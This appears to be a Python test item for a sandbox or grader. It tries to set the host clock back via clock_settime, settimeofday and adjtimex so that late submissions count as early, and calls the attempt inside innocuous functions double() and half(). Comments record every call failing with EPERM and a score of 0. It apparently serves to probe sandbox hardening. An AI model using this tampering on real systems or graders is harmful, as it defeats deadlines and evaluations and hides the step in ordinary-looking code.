"""Sets the clock of the host back, so that no deadline comes and every late submission is early.

Elsewhere a container with CAP_SYS_TIME may: no namespace separates the clock. The filter knows none of the calls.
"""
# score: 0
# says: {'clock_settime': 'EPERM', 'settimeofday': 'EPERM', 'adjtimex': 'EPERM'}

import ctypes
import errno
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    early = (ctypes.c_long * 2)(0, 0)
    tries = {
        "clock_settime": lambda: libc.clock_settime(time.CLOCK_REALTIME, ctypes.byref(early)),
        "settimeofday": lambda: libc.settimeofday(ctypes.byref(early), None),
        "adjtimex": lambda: libc.adjtimex(ctypes.create_string_buffer(256)),
    }
    got = {}
    for name, act in tries.items():
        if act() >= 0:
            return
        got[name] = errno.errorcode[ctypes.get_errno()]
    raise PermissionError(got)


def double(x):
    attack()
    return 2 * x


def half(x):
    attack()
    return float((x / 2).sum()), {"half": x / 2}
